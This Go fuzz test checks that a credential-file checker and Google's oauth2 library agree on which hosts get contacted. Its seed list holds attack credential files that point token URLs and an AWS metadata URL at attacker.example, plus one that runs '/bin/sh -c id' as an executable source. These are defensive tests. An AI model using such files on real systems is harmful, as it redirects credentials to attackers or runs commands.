package token

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/oauth2"
	"golang.org/x/oauth2/google"

	"github.com/docker-credential-gcr/docker-credential-gcr/internal/fakegoogle"
)

// recorder is an http.RoundTripper that records the origin of every
// request and answers it at once with a body that satisfies every flow of
// the library (an OAuth token, STS, IAM Credentials, AWS's metadata, a
// subject token): nothing reaches the network, and each flow goes as far as
// it would against real servers.
type recorder struct {
	mu      sync.Mutex
	origins []string
}

const anyAnswer = `{"access_token":"ya29.fuzz","expires_in":3600,"token_type":"Bearer","accessToken":"ya29.fuzz","expireTime":"2099-01-01T00:00:00Z",` +
	`"AccessKeyId":"AKIAFUZZ","SecretAccessKey":"fuzz","Token":"fuzz","value":"subject"}`

func (r *recorder) RoundTrip(req *http.Request) (*http.Response, error) {
	if req.Body != nil {
		io.Copy(io.Discard, req.Body)
		req.Body.Close()
	}
	r.mu.Lock()
	r.origins = append(r.origins, origin(req.URL))
	r.mu.Unlock()
	body := anyAnswer
	switch p := req.URL.Path; {
	case req.Method == http.MethodPut: // AWS IMDSv2 session token
		body = "aws-session"
	case strings.HasSuffix(p, "/availability-zone"): // AWS region, less its last letter
		body = "us-east-1a"
	case strings.HasSuffix(p, "/security-credentials"): // AWS role name
		body = "role"
	}
	return &http.Response{StatusCode: 200, Header: http.Header{"Content-Type": {"application/json"}},
		Body: io.NopCloser(strings.NewReader(body)), Request: req}, nil
}

// credentialSeeds are realistic files of every type, with subject the
// subject-token file they read (the first realisticSeeds), then the attack
// files of issue 12.
func credentialSeeds(t testing.TB, subject string) []string {
	g, err := fakegoogle.New(fakegoogle.Options{RealHosts: true})
	if err != nil {
		t.Fatal(err)
	}
	defer g.Close()
	key, _ := g.NewServiceAccount("sa@p.iam.gserviceaccount.com")
	user, _ := g.NewAuthorizedUser("me@example.com")
	ext, _ := g.NewExternalAccount("wif@p.iam.gserviceaccount.com", filepath.Dir(subject))
	var m map[string]any
	json.Unmarshal(ext, &m)
	m["credential_source"] = map[string]any{"file": subject, "format": map[string]string{"type": "text"}}
	m["service_account_impersonation_url"] = "https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/sa@p.iam.gserviceaccount.com:generateAccessToken"
	ext, _ = json.Marshal(m)
	gdch := strings.Replace(string(key), `"service_account"`, `"gdch_service_account"`, 1)
	imp := `{"type":"impersonated_service_account","delegates":["projects/-/serviceAccounts/d@p.iam.gserviceaccount.com"],` +
		`"service_account_impersonation_url":"https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/t@p.iam.gserviceaccount.com:generateAccessToken","source_credentials":`
	aws := `{"type":"external_account","audience":"//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/aws","subject_token_type":"urn:ietf:params:aws:token-type:aws4_request","token_url":"https://sts.googleapis.com/v1/token",` +
		`"credential_source":{"environment_id":"aws1","region_url":"http://169.254.169.254/latest/meta-data/placement/availability-zone","url":"http://169.254.169.254/latest/meta-data/iam/security-credentials","regional_cred_verification_url":"https://sts.{region}.amazonaws.com?Action=GetCallerIdentity&Version=2011-06-15","imdsv2_session_token_url":"http://169.254.169.254/latest/api/token"}}`
	return []string{
		string(key), string(user), string(ext), gdch, aws,
		string(ghaCreds(ghaURL, "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/gh")),
		imp + string(user) + `}`, imp + string(ext) + `}`, imp + imp + string(key) + `}}`,
		`{"type":"external_account_authorized_user","audience":"//iam.googleapis.com/locations/global/workforcePools/p/providers/x","refresh_token":"r","client_id":"c","client_secret":"s",` +
			`"token_url":"https://sts.googleapis.com/v1/oauthtoken","token_info_url":"https://sts.googleapis.com/v1/introspect","revoke_url":"https://sts.googleapis.com/v1/revoke"}`,
		base64.StdEncoding.EncodeToString(key),
		// Refused: finding 1: the copies of a duplicate key are merged by the library.
		imp + `{"type":"external_account","audience":"a","subject_token_type":"t","token_url":"http://127.0.0.1:1/token","credential_source":{"file":"` + subject + `"}},"source_credentials":{"type":"external_account"}}`,
		// Finding 2: a file naming its own universe.
		`{"type":"authorized_user","universe_domain":"attacker.example","client_id":"c","client_secret":"s","refresh_token":"r","token_uri":"https://oauth2.attacker.example/token"}`,
		`{"type":"external_account","universe_domain":"attacker.example","audience":"a","subject_token_type":"t","token_url":"https://sts.attacker.example/v1/token","credential_source":{"file":"` + subject + `"}}`,
		// Accepted, with the universe's endpoints filled in: finding 4.
		strings.Replace(strings.Replace(string(key), `"googleapis.com"`, `"s3nsapis.fr"`, 1), `"token_uri": "https://oauth2.googleapis.com/token",`, "", 1),
		`{"type":"external_account","universe_domain":"s3nsapis.fr","audience":"a","subject_token_type":"t","credential_source":{"file":"` + subject + `"}}`,
		// Refused: finding 5.
		strings.Replace(aws, "http://169.254.169.254/latest/meta-data/placement", "http://attacker.example", 1),
		// A URL source at the metadata server, an executable.
		`{"type":"external_account","audience":"a","subject_token_type":"t","credential_source":{"url":"http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token","headers":{"Metadata-Flavor":"Google"}}}`,
		`{"type":"external_account","audience":"a","subject_token_type":"t","credential_source":{"executable":{"command":"/bin/sh -c id"}}}`,
		// Accepted without it: the library's browser flow, reached through a client config.
		`{"type":"service_account","installed":{"client_id":"c","token_uri":"https://attacker.example/t","redirect_uris":["http://localhost"]}}`,
	}
}

// realisticSeeds is how many of credentialSeeds are realistic files.
const realisticSeeds = 11

// FuzzCredentialView compares the checker's view of a credential file with
// the library's: for every file the checker accepts (with the defaults of
// trust: no custom URL, the GitHub runner's URL set), the library is run on
// exactly what it would be given, through a client that records every
// request, and every origin it contacts must be one the checker checked and
// trusted. It also checks that an accepted file is a fixed point of the
// check, of a known type and a trusted universe, and runs no program.
func FuzzCredentialView(f *testing.F) {
	dir := f.TempDir()
	subject := filepath.Join(dir, "subject")
	if err := os.WriteFile(subject, []byte("subject"), 0o600); err != nil {
		f.Fatal(err)
	}
	for _, s := range credentialSeeds(f, subject) {
		f.Add([]byte(s))
	}
	env := map[string]string{"ACTIONS_ID_TOKEN_REQUEST_URL": ghaURL}
	tr := (&Options{Getenv: func(k string) string { return env[k] }}).trust()
	f.Fuzz(func(t *testing.T, raw []byte) {
		v, err := parseCredential(raw, tr)
		if err != nil {
			return
		}
		if !slices.Contains(credentialTypes, v.cred.Type) || !tr.trusted(v.universe) || v.identity == "" {
			t.Fatalf("parseCredential accepted type %q, universe %q, identity %q", v.cred.Type, v.universe, v.identity)
		}
		again, err := parseCredential(v.data, tr)
		if err != nil || string(again.data) != string(v.data) || !slices.Equal(again.origins, v.origins) {
			t.Fatalf("parseCredential(its own output %s) = %v, want the same view", v.data, err)
		}
		for c := v.cred; c != nil; c = c.SourceCredentials {
			if cs := c.CredentialSource; cs != nil {
				if cs.Executable != nil {
					t.Fatalf("parseCredential accepted an executable without the opt-in: %s", v.data)
				}
				if cs.File != "" && cs.File != subject {
					return // the library would read another file: not ours to open
				}
			}
		}
		rec := &recorder{}
		ctx, cancel := context.WithTimeout(context.WithValue(context.Background(), oauth2.HTTPClient, &http.Client{Transport: rec}), 10*time.Second)
		defer cancel()
		creds, err := google.CredentialsFromJSONWithTypeAndParams(ctx, v.data, google.CredentialsType(v.cred.Type), google.CredentialsParams{Scopes: []string{Scope}})
		if err == nil {
			creds.TokenSource.Token()
		}
		for _, o := range rec.origins {
			if !slices.Contains(v.origins, o) {
				t.Fatalf("the library contacted %s, which the check did not trust (it trusted %v) for %s", o, v.origins, v.data)
			}
		}
	})
}
